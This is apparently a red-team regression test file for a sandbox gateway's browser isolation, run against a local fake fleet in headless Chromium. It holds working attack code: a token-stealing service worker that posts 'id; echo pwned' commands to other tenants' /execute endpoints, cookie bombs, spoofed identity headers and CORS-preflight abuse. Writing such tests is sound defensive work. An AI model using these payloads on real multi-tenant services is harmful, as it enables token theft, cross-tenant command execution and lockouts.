"""RED TEAM (issue #26 review): attacks on the browser isolation, each of which SUCCEEDED when written.

Every test here is a hole found by attacking gateway/proxy/_browser.py, _keys.py and _refusals.py as a
hostile tenant with a real browser would. Each asserts what SECURITY.md's "Browsers" section (and issue
#26's "what must hold") promises, so each fails until its hole is closed (all failed on 27253ce; some pass
on main since the fixes they prompted). Write-up, reproduction, state and suggested fixes:
/work/notes/redteam-26.md.

The scene is the one of tests/test_browser_isolation.py (a whole gateway, a fake fleet, a real headless
Chromium), with a fleet that also serves what a hostile tenant's dev server would: a service worker
that asks for a wider scope, an app that keeps a session cookie, a Clear-Site-Data answer and a CORS
preflight that allows anything. An attack step runs as the attacker's script only where the browser
shows the attacker's own page (``_as``): once the gateway refuses to make it a page, the attack stops.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from typing import Any

import pytest
from aiohttp import web

from tests.browser import Browser, BrowserError, Page
from tests.client_gateway import PATH_PREFIX, PREVIEW_DOMAIN, ClientGateway, client_gateway
from tests.proxy_helpers import aiohttp_backend
from tests.test_browser_isolation import (ATTACKER, VICTIM, Fleet, Scene, Tenant, _tenant, _until_async, chromium,
                                          fetch)

__all__ = ["chromium"]  # the fixture, imported for pytest

# A service worker a tenant serves. It asks for the scope "/" (its response says
# Service-Worker-Allowed: /), so it sees every request of the gateway's one path-mode origin, tokens in
# their URLs included; with a token that is not its own it drives that sandbox.
SERVICE_WORKER = """
self.addEventListener('install', e => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(clients.claim()));
self.addEventListener('fetch', e => {
  const u = new URL(e.request.url);
  const token = u.searchParams.get('access_token');
  const prefix = u.pathname.split('/').slice(0, 4).join('/');
  if (token && prefix !== MINE && !u.pathname.endsWith('/execute')) {
    fetch(prefix + '/execute?access_token=' + encodeURIComponent(token),
          {method: 'POST', body: '{"command": "id; echo pwned > pwned.txt"}'});
  }
});
"""


class HostileFleet(Fleet):
    """The fleet of tests/test_browser_isolation.py, plus a service worker and an app session cookie."""

    async def handle(self, request: web.Request) -> web.StreamResponse:
        if request.path.endswith("/sw.js"):
            mine = request.headers.get("X-Forwarded-Prefix", "").rstrip("/")
            self.requests.append({"sandbox": request.headers.get("X-Sandbox-Id", "?"), "path": request.path,
                                  "cookie": "", "site": request.headers.get("Sec-Fetch-Site")})
            return web.Response(text=f"const MINE = {json.dumps(mine)};" + SERVICE_WORKER,
                                content_type="application/javascript", headers={"Service-Worker-Allowed": "/"})
        if request.method == "OPTIONS":  # a dev server that allows any origin (CORS preflight)
            return web.Response(status=204, headers={
                "Access-Control-Allow-Origin": request.headers.get("Origin", "*"),
                "Access-Control-Allow-Methods": "POST",
                "Access-Control-Allow-Headers": request.headers.get("Access-Control-Request-Headers", "")})
        if request.path.endswith("/clear-site-data"):
            return web.Response(text="cleared", headers={"Clear-Site-Data": '"cookies"'})
        if request.path.endswith("/login"):
            response = web.Response(text="logged in")
            response.headers.add("Set-Cookie", "app_session=victim-secret; Path=/; HttpOnly")
            response.headers.add("Set-Cookie", "app_visible=victim-visible; Path=/")
            return response
        return await super().handle(request)


@contextlib.asynccontextmanager
async def _hostile_gateway(tmp_path) -> AsyncIterator[tuple[ClientGateway, HostileFleet, int, Tenant, Tenant]]:
    """The gateway of tests/test_browser_isolation.py's scene over a :class:`HostileFleet`, with both tenants."""
    fleet = HostileFleet()
    async with aiohttp_backend(fleet.handle) as backend:
        policy = json.dumps({
            "pools": {"shared": {"provider": "static", "upstreams": [f"http://127.0.0.1:{backend.port}"],
                                 "ports": [backend.port]}},
            "routing": {"prefix_pools": {"default": "shared"}}})
        async with client_gateway(tmp_path, policy=policy, access_token_max_ttl=600) as gw:
            yield gw, fleet, backend.port, await _tenant(gw, *VICTIM), await _tenant(gw, *ATTACKER)


@pytest.fixture
async def red(tmp_path, chromium: Browser) -> AsyncIterator[Scene]:
    async with _hostile_gateway(tmp_path) as (gw, fleet, port, victim, attacker):
        yield Scene(gw, fleet, port, chromium, victim, attacker)


async def _jar(browser: Browser, prefix: str) -> int:
    return len([c for c in await browser.cookies() if c["name"].startswith(prefix)])


async def _victim_executed(scene: Scene, within: float) -> list[tuple[str, str]]:
    """What the victim's sandbox was made to execute, waiting up to ``within`` seconds for something."""
    deadline = asyncio.get_running_loop().time() + within
    while asyncio.get_running_loop().time() < deadline:
        ran = [e for e in scene.fleet.executed if e[0] == scene.victim.sandbox_id]
        if ran:
            return ran
        await asyncio.sleep(0.05)
    return []



async def _as(page: Page, tenant: Tenant, script: str) -> Any:
    """Run ``script`` as ``tenant``'s own page would: only where the browser shows that tenant's content
    (not a gateway refusal), and only as far as the browser lets it (an opaque origin, CSP sandbox,
    throws). None when the tenant has no page there to run it: the attack stops at that step."""
    if f"page of {tenant.sandbox_id}" not in await page.text():
        return None
    try:
        return await page.evaluate(script)
    except BrowserError:
        return None


def _fetch_js(url: str, **options: Any) -> str:
    return (f"fetch({json.dumps(url)}, {json.dumps(options)})"
            ".then(async r => [r.status, r.type === 'opaque' ? 'opaque' : await r.text()])"
            ".catch(e => ['blocked', String(e)])")


# --- RED TEAM #1 (high): a cookie bomb made of names the 431 never expires keeps the victim out for good ---

# Names that differ from "sgw_access" only in case: a browser keeps each as its own cookie, the 431's
# CookieNames skips them all (it compares names case-insensitively with the gateway's own).
CASE_VARIANTS = """
const base = 'sgw_access', names = new Set();
for (let m = 1; names.size < 40; m++) {
  let s = '';
  for (let i = 0; i < base.length; i++) s += (m >> i) & 1 ? base[i].toUpperCase() : base[i];
  if (s !== base) names.add(s);
}
"""


@pytest.mark.parametrize("bomb", [
    pytest.param(CASE_VARIANTS + "for (const n of names) document.cookie = n + '=' + 'x'.repeat(3900)"
                 f" + '; domain={PREVIEW_DOMAIN}; path=/'; names.size", id="names-that-differ-from-sgw_access-in-case"),
    pytest.param("for (let i = 0; i < 40; i++) document.cookie = 'L' + i + 'y'.repeat(300) + '=' + 'x'.repeat(3600)"
                 f" + '; domain={PREVIEW_DOMAIN}; path=/'; 40", id="names-longer-than-256-bytes"),
    # The 431 expires Path=/ only; a cookie's identity includes its Path, so one set for /page survives.
    pytest.param("for (let i = 0; i < 40; i++) document.cookie = 'p' + i + '=' + 'x'.repeat(3900)"
                 f" + '; domain={PREVIEW_DOMAIN}; path=/page'; 40", id="cookies-on-the-path-the-victim-uses"),
    # The expiry covers the request path's ancestors four deep: a Path five deep (Next.js serves its chunks
    # from /_next/static/chunks/pages/...) is never expired.
    pytest.param("for (let i = 0; i < 40; i++) document.cookie = 'd' + i + '=' + 'x'.repeat(3900)"
                 f" + '; domain={PREVIEW_DOMAIN}; path=/page/a/b/c/d'; 40", id="cookies-five-deep"),
    # 40 names of 3 KB: the 431's expiry (each name x 5 paths x 2 domains) is a 600 KB response head, past
    # what Chromium reads (256 KB, ERR_RESPONSE_HEADERS_TOO_BIG): not one cookie is expired.
    pytest.param("for (let i = 0; i < 40; i++) document.cookie = 'N' + i + 'y'.repeat(3000) + '=' + 'x'.repeat(900)"
                 f" + '; domain={PREVIEW_DOMAIN}; path=/'; 40", id="an-expiry-too-large-for-the-browser",
                 marks=pytest.mark.xfail(strict=True, reason="known gap: the expiry of 40 names of 3 KB on every "
                                         "path and scope is larger than one answer Chromium reads (256 KiB); it "
                                         "takes several 431s (SECURITY.md, Known gaps)")),
    # A cookie without a name (the Cookie header carries its value alone) is never read as a name: one per
    # Path that matches /page/a/b/c/d/e/f/g (15 of them), ~4 KB each.
    pytest.param("const paths = ['/page']; for (const s of 'abcdefg') paths.push(paths[paths.length - 1] + '/' + s);"
                 " for (const p of paths) for (const q of [p, p + '/']) document.cookie = 'v'.repeat(4000)"
                 f" + '; domain={PREVIEW_DOMAIN}; path=' + q; 16", id="nameless-cookies-on-every-matching-path",
                 marks=pytest.mark.xfail(strict=True, reason="known gap: a cookie with no name cannot be named in "
                                         "a Set-Cookie that expires it (SECURITY.md, Known gaps)")),
])
async def test_redteam_cookie_bomb_the_431_does_not_expire_keeps_the_victim_out(red: Scene, bomb: str):
    victim, attacker = red.victim, red.attacker
    mine = await red.browser.new_page()
    assert (await mine.goto(victim.host_url))["status"] == 200
    theirs = await red.browser.new_page()
    assert (await theirs.goto(attacker.host_url))["status"] == 200
    await _plant(red.browser, theirs, bomb)
    target = ("/page/a/b/c/d/e/f/g" if "'v'.repeat" in bomb else "/page/a/b/c/d/x" if "path=/page/a/b/c/d'" in bomb
              else "/page/a/b" if "'N'" in bomb else "/page")
    # SECURITY.md: "40 cookies ... cost the victim one 431, then 200". The browser's cookie store takes
    # script writes in its own time, so the bomb may ride from the first request or a later one: one
    # refused answer at most (431, or none when the browser cannot read the answer's head), then 200s.
    statuses = []
    for _ in range(4):
        answer = await mine.goto(victim.host(red, target))
        statuses.append(answer.get("status") or (await mine.text())[:200])
    refused = [s for s in statuses if s != 200]
    assert len(refused) <= 1 and statuses[-1] == 200, f"the victim is still locked out: {statuses}"



async def _plant(browser: Browser, page: Page, script: str, domain: str = PREVIEW_DOMAIN) -> None:
    """Run ``script`` (whose value is how many cookies it sets on ``domain``) until the cookie
    store holds them all: on a loaded machine a burst of document.cookie writes can take many seconds to
    reach it, or (Chromium 156, seen here) not show at all until written again. Writing is idempotent."""
    for _ in range(6):
        count = await page.evaluate("{" + script + "}")
        with contextlib.suppress(TimeoutError):
            await _until_async(lambda: _domain_cookies(browser, domain), count, timeout=10.0)
            return
    raise AssertionError("the browser never stored the cookies the script set")


async def _domain_cookies(browser: Browser, domain: str = PREVIEW_DOMAIN) -> int:
    return len([c for c in await browser.cookies() if c["domain"].lstrip(".") == domain])


# --- RED TEAM #2 (critical): path mode, a tenant's service worker takes every other sandbox's token ---

async def test_redteam_path_mode_service_worker_steals_the_victims_token_and_drives_her_sandbox(red: Scene):
    victim, attacker = red.victim, red.attacker
    theirs = await red.browser.new_page()
    # The victim opens a link the attacker shared (as in issue #26's demonstration).
    await theirs.goto(attacker.path(red, f"/page?access_token={attacker.token}"))
    script = json.dumps(attacker.path(red, "/sw.js?access_token=" + attacker.token))
    await _as(theirs, attacker,
              f"navigator.serviceWorker.register({script},"
              " {scope: '/'}).then(() => navigator.serviceWorker.ready).then(r => r.scope)"
              ".catch(e => 'refused: ' + e)")
    # Later, the victim opens her own sandbox's path URL (the grant's, token in the URL).
    mine = await red.browser.new_page()
    await mine.goto(victim.path_url)
    # SECURITY.md: in path mode "an attacker's page on the same gateway ... the victim's sandbox receives
    # nothing". (Before 6328073: a worker for the scope "/" saw her URL, took the token and ran a command.)
    assert await _victim_executed(red, 5.0) == []

# --- RED TEAM #3 (medium): path mode, a sandbox's cookies are not "set for itself alone" ---

async def test_redteam_path_mode_attacker_page_tosses_a_cookie_into_the_victims_sandbox(red: Scene):
    victim, attacker = red.victim, red.attacker
    theirs = await red.browser.new_page()
    await theirs.goto(attacker.path(red, f"/page?access_token={attacker.token}"))
    victim_prefix = f"{PATH_PREFIX}/{victim.sandbox_id}/{red.fleet_port}/"
    await _as(theirs, attacker, f"document.cookie = 'app_session=chosen-by-the-attacker; path={victim_prefix}'; true")
    # SECURITY.md: a sandbox's cookies are "set for itself alone"; issue #26: "tossed cookies never reach
    # another sandbox". (Before 6328073: the attacker's page set the victim app's session cookie.)
    tossed = [c for c in await red.browser.cookies() if c["name"] == "app_session" and c["path"] == victim_prefix]
    assert tossed == []


async def test_redteam_path_mode_attacker_page_reads_the_victim_apps_cookies(red: Scene):
    victim, attacker = red.victim, red.attacker
    mine = await red.browser.new_page()
    await mine.goto(victim.path_url)
    await _as(mine, victim, _fetch_js(f"login?access_token={victim.token}"))  # her app's session cookie
    theirs = await red.browser.new_page()
    await theirs.goto(attacker.path(red, f"/page?access_token={attacker.token}"))
    # Any page of the victim's path (a 401 without the token is enough) is same-origin with the attacker's.
    seen = await _as(theirs, attacker,
                     f"new Promise(done => {{ const f = document.createElement('iframe');"
                     f" f.src = {json.dumps(victim.path(red, '/anything'))};"
                     " f.onload = () => done(f.contentDocument.cookie); document.body.appendChild(f); })")
    assert seen is None or "victim-visible" not in seen, seen

# --- RED TEAM #1c (medium): a preview domain below its registrable domain: the bomb goes one level up ---

DEEP_DOMAIN = "sbx." + PREVIEW_DOMAIN  # e.g. previews.example.com: the browser lets a host set example.com


@pytest.fixture
async def deep(tmp_path, chromium: Browser, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Scene]:
    import tests.client_gateway
    monkeypatch.setattr(tests.client_gateway, "PREVIEW_DOMAIN", DEEP_DOMAIN)
    async with _hostile_gateway(tmp_path) as (gw, fleet, port, victim, attacker):
        yield Scene(gw, fleet, port, chromium, victim, attacker)


async def test_redteam_cookie_bomb_on_the_preview_domains_parent_keeps_the_victim_out(deep: Scene):
    victim, attacker = deep.victim, deep.attacker
    assert DEEP_DOMAIN in victim.host_url
    mine = await deep.browser.new_page()
    assert (await mine.goto(victim.host_url))["status"] == 200
    theirs = await deep.browser.new_page()
    assert (await theirs.goto(attacker.host_url))["status"] == 200
    # The 431 expires cookies host-only and on Domain=<preview domain>; the browser also lets any preview
    # host set them on every ancestor up to the registrable domain.
    await _plant(deep.browser, theirs, "for (let i = 0; i < 40; i++)"
                 f" document.cookie = 'up' + i + '=' + 'x'.repeat(3900) + '; domain={PREVIEW_DOMAIN}; path=/'; 40")
    page = victim.host_url.split("?")[0] + "page"
    # The browser's cookie store takes script writes in its own time: one refused answer at most, then 200s.
    statuses = [(await mine.goto(page)).get("status") for _ in range(3)]
    assert statuses.count(431) <= 1 and statuses[-1] == 200, f"the victim is still locked out: {statuses}"


# --- RED TEAM #2b (high): path mode, the token reaches the next page's script through document.referrer ---

async def test_redteam_path_mode_token_leaks_to_the_next_sandboxs_page_through_document_referrer(red: Scene):
    victim, attacker = red.victim, red.attacker
    mine = await red.browser.new_page()
    await mine.goto(victim.path_url)
    # Her page links to a path URL the attacker shared (a README, a dashboard); she follows it. The gateway
    # cuts the token from the Referer it forwards, but the browser hands the whole URL to the page's script.
    link = attacker.path(red, f"/page?access_token={attacker.token}")
    clicked = await _as(mine, victim, f"const a = document.createElement('a'); a.href = {json.dumps(link)};"
                                      " document.body.appendChild(a); a.click(); true")
    if clicked:
        await _until_async(lambda: mine.url(), link)
    referrer = await _as(mine, attacker, "document.referrer")
    assert referrer is None or victim.token not in referrer, "the attacker's page read the victim's token"

# --- RED TEAM #4 (critical): trusted identity headers from a sandbox's own page route to any tenant ---

@pytest.mark.parametrize("mode", ["host", "path"])
async def test_redteam_sandbox_page_sends_trusted_identity_headers_to_drive_the_victims_sandbox(red: Scene,
                                                                                               mode: str):
    victim, attacker = red.victim, red.attacker
    theirs = await red.browser.new_page()
    url = attacker.host_url if mode == "host" else attacker.path(red, f"/page?access_token={attacker.token}")
    await theirs.goto(url)
    org, user, session = VICTIM
    # A same-origin fetch from the attacker's own page may carry any header (no CORS preflight). With
    # X-Session-Id the request is not keyed: it routes by the identity headers the gateway trusts.
    ran = await _as(theirs, attacker, _fetch_js(
        "/execute", method="POST", body='{"command": "id; echo pwned > pwned.txt"}',
        headers={"X-Org-Id": org, "X-User-Id": user, "X-Session-Id": session}))
    executed = [e for e in red.fleet.executed if e[0] == victim.sandbox_id]
    assert executed == [], f"the attacker's page ran a command in the victim's sandbox and read {ran}"


# --- RED TEAM #5 (medium, documented residual): host mode, a sibling's script still tosses cookies ---

@pytest.mark.xfail(strict=True, reason="known gap: document.cookie on the preview domain reaches every sibling; the gateway cannot tell it from the app's own script-set cookies; a preview domain on the Public Suffix List stops it")
async def test_redteam_host_mode_sibling_script_tosses_a_cookie_into_the_victims_app(red: Scene):
    victim, attacker = red.victim, red.attacker
    mine = await red.browser.new_page()
    assert (await mine.goto(victim.host_url))["status"] == 200
    await mine.evaluate("document.cookie = 'app_session=hers; path=/'; true")
    theirs = await red.browser.new_page()
    assert (await theirs.goto(attacker.host_url))["status"] == 200
    # Issue #26 item 3 names this exact case ("or document.cookie with that domain"). A longer Path is
    # sent first, so the attacker's value is the one most frameworks read.
    await theirs.evaluate(f"document.cookie = 'app_session=chosen-by-the-attacker; domain={PREVIEW_DOMAIN}; "
                          "path=/echo'; true")
    await _until_async(lambda: _jar(red.browser, "app_session"), 2, timeout=30.0)
    cookie = json.loads((await fetch(mine, "/echo"))[1])["cookie"]
    assert "chosen-by-the-attacker" not in cookie, cookie


# --- raw HTTP forms of the same holes (no browser needed) ---

async def _raw(port: int, request: bytes) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(request)
        await writer.drain()
        return await asyncio.wait_for(reader.read(65536), 10)
    finally:
        writer.close()


async def test_redteam_control_api_answers_an_absolute_form_target_for_a_foreign_host(tmp_path):
    async with client_gateway(tmp_path) as gw:
        control, data = gw.gateway.control_address[1], gw.data_port  # type: ignore[index]
        request = b"GET http://rebind.example/healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
        assert (await _raw(data, request)).startswith(b"HTTP/1.1 421 ")  # the data plane refuses it
        answer = await _raw(control, request)
        assert answer.startswith(b"HTTP/1.1 421 "), answer[:200]  # SECURITY.md: so does the control API


def test_redteam_cookie_names_expires_every_name_a_browser_keeps_apart():
    from gateway.proxy._browser import CookieNames
    names = CookieNames()
    long_name = b"L" + b"y" * 300
    head = (b"GET / HTTP/1.1\r\nHost: x\r\nCookie: sgw_access=t; SGW_ACCESS=" + b"x" * 10 + b"; " + long_name
            + b"=" + b"x" * 10 + b"\r\n\r\n")
    assert names.feed(head)
    lines = names.clearing("preview.localhost")
    # The gateway's own cookie is exactly "sgw_access"; a browser keeps "SGW_ACCESS" and a 301-byte name apart.
    assert any(line.startswith(b"SGW_ACCESS=;") for line in lines), lines
    assert any(line.startswith(long_name + b"=;") for line in lines), lines


@pytest.mark.parametrize("where", ["preview-host", "preview-host-trailing-dot", "path-origin"])
async def test_redteam_raw_identity_headers_from_a_browser_on_a_preview_url_reach_another_tenant(tmp_path, where: str):
    """FINDING 4 in raw HTTP: what the attacker's same-origin fetch sends (Origin, Sec-Fetch-Site:
    same-origin, the identity headers), with no token and no cookie."""
    async with _hostile_gateway(tmp_path) as (gw, fleet, fleet_port, victim, attacker):
        if where.startswith("preview-host"):
            # (A trailing dot: allowed_hosts strips it, PreviewKeys.match does not: the request is not keyed.)
            dot = "." if where.endswith("dot") else ""
            host = f"{fleet_port}-{attacker.sandbox_id}.{PREVIEW_DOMAIN}{dot}:{gw.data_port}"
            target = "/execute"
        else:
            host = f"127.0.0.1:{gw.data_port}"
            target = f"{PATH_PREFIX}/{attacker.sandbox_id}/{fleet_port}/execute"
        org, user, session = VICTIM
        body = b'{"command": "id"}'
        answer = await _raw(gw.data_port, (
            f"POST {target} HTTP/1.1\r\nHost: {host}\r\nOrigin: http://{host}\r\nSec-Fetch-Site: same-origin\r\n"
            f"Sec-Fetch-Mode: cors\r\nSec-Fetch-Dest: empty\r\nContent-Type: text/plain;charset=UTF-8\r\n"
            f"X-Org-Id: {org}\r\nX-User-Id: {user}\r\nX-Session-Id: {session}\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode() + body)
        assert [e for e in fleet.executed if e[0] == victim.sandbox_id] == [], answer[:300]


# --- RED TEAM #7 (medium): host mode, a sibling's Clear-Site-Data wipes the victim's access cookie ---

async def test_redteam_host_mode_sibling_clear_site_data_wipes_the_victims_cookies(red: Scene):
    victim, attacker = red.victim, red.attacker
    mine = await red.browser.new_page()
    assert (await mine.goto(victim.host_url))["status"] == 200
    await mine.evaluate("document.cookie = 'app_session=hers; path=/'; true")
    theirs = await red.browser.new_page()
    assert (await theirs.goto(attacker.host_url))["status"] == 200
    # Clear-Site-Data: "cookies" clears the cookies of the response's whole registrable domain, i.e.
    # of every preview host: the gateway forwards the sandbox's header as it is.
    victim_host = f"{red.fleet_port}-{victim.sandbox_id}.{PREVIEW_DOMAIN}"
    await _until_async(lambda: _jar(red.browser, "app_session"), 1, timeout=30.0)
    before = [c["name"] for c in await red.browser.cookies() if c["domain"] == victim_host]
    assert "sgw_access" in before and "app_session" in before, before
    assert (await fetch(theirs, "/clear-site-data"))[0] == 200
    left = [c["name"] for c in await red.browser.cookies() if c["domain"] == victim_host]
    assert "sgw_access" in left and "app_session" in left, f"the victim's cookies on her own host are gone: {left}"


# --- RED TEAM #8 (high): a bomb below max_header_bytes but above the sandbox's own limit never clears ---

@pytest.mark.xfail(strict=True, reason="known gap: cookies under max_header_bytes but over the sandbox server's own head limit; set max_header_bytes at or below it, or a preview domain on the Public Suffix List")
async def test_redteam_cookie_bomb_under_the_gateways_limit_is_refused_by_the_sandbox_for_good(red: Scene):
    victim, attacker = red.victim, red.attacker
    mine = await red.browser.new_page()
    assert (await mine.goto(victim.host_url))["status"] == 200
    theirs = await red.browser.new_page()
    assert (await theirs.goto(attacker.host_url))["status"] == 200
    # 4 x 3.9 KB: a 16 KB Cookie line, half of max_header_bytes (32 KiB), so the gateway forwards it; the
    # sandbox's server refuses it (aiohttp and gunicorn: 8190 bytes a line; Node, so Vite and Next: 16 KiB
    # a head; nginx: 8 KiB buffers). Nothing expires the cookies: every request fails, for good.
    await _plant(red.browser, theirs, "for (let i = 0; i < 4; i++)"
                 f" document.cookie = 'small' + i + '=' + 'x'.repeat(3900) + '; domain={PREVIEW_DOMAIN}; path=/'; 4")
    statuses = [(await mine.goto(victim.host(red, "/page")))["status"] for _ in range(3)]
    assert statuses[1:] == [200, 200], f"the victim's sandbox answers {statuses}: locked out for good"


# --- RED TEAM #4b (critical): the same from ANY web site the victim visits, by way of the attacker's sandbox ---

async def test_redteam_any_site_drives_the_victims_sandbox_through_the_attackers_cors_preflight(red: Scene):
    victim, attacker = red.victim, red.attacker
    page = await red.browser.new_page()
    # "evil.example": any origin other than the gateway's (here the fleet's own port, served directly).
    assert (await page.goto(f"http://127.0.0.1:{red.fleet_port}/evil"))["status"] == 200
    org, user, session = VICTIM
    # The preflight (no identity headers yet) carries the attacker's token in the URL: it is keyed, reaches
    # the attacker's sandbox, which allows the headers. The request itself carries X-Session-Id: it is
    # not keyed, and routes by the identity headers to the victim's sandbox.
    url = attacker.host(red, f"/execute?access_token={attacker.token}")
    answer = await fetch(page, url, method="POST", body='{"command": "id; echo pwned > pwned.txt"}',
                         headers={"X-Org-Id": org, "X-User-Id": user, "X-Session-Id": session})
    executed = [e for e in red.fleet.executed if e[0] == victim.sandbox_id]
    assert executed == [], f"a page of another site ran a command in the victim's sandbox ({answer})"


# --- RED TEAM #11 (high): a sibling tab that re-plants its bomb keeps the victim out while it is open ---

@pytest.mark.xfail(strict=True, reason="known gap: a sibling's open tab that plants the bomb again and again keeps the victim at 431 while it runs; a preview domain on the Public Suffix List stops it")
async def test_redteam_a_bomb_replanted_by_a_timer_keeps_the_victim_out(red: Scene):
    victim, attacker = red.victim, red.attacker
    mine = await red.browser.new_page()
    assert (await mine.goto(victim.host_url))["status"] == 200
    theirs = await red.browser.new_page()
    assert (await theirs.goto(attacker.host_url))["status"] == 200
    plant = ("for (let i = 0; i < 40; i++) document.cookie = 'bomb' + i + '=' + 'x'.repeat(3900)"
             f" + '; domain={PREVIEW_DOMAIN}; path=/'; 40")
    await _plant(red.browser, theirs, plant)
    # The attacker's tab stays open (the victim opened its link) and writes the bomb again every 200 ms: the
    # 431's expiry lasts until the next tick. "A cookie bomb costs the victim one request" holds only
    # for a bomb that is planted once.
    await theirs.evaluate(f"setInterval(() => {{ {plant} }}, 200); true")
    statuses = []
    for _ in range(4):
        statuses.append((await mine.goto(victim.host(red, "/page"))).get("status"))
        await asyncio.sleep(0.5)
    assert statuses[1:] == [200, 200, 200], f"the victim's navigations: {statuses}"


def test_redteam_the_expiry_lines_take_no_attributes_from_the_request_path():
    """FINDING 12: the 431's expiry names the request path's ancestors as Path; a path may hold ";"
    (a sibling's page navigates the victim to it while its bomb is planted), which then adds attributes of
    the attacker's choosing to the gateway's own Set-Cookie lines (Max-Age: the line sets instead of
    expiring; Partitioned: a cookie no expiry line reaches)."""
    from gateway.proxy._browser import CookieNames
    names = CookieNames()
    assert names.feed(b"GET /x;Max-Age=99999;Secure;SameSite=None;Partitioned HTTP/1.1\r\nHost: h\r\n"
                      b"Cookie: bomb=1\r\n\r\n")
    for line in names.clearing("preview.localhost"):
        attributes = [a.strip().split(b"=")[0].lower() for a in line.split(b";")[1:]]
        assert attributes.count(b"max-age") == 1 and b"partitioned" not in attributes, line
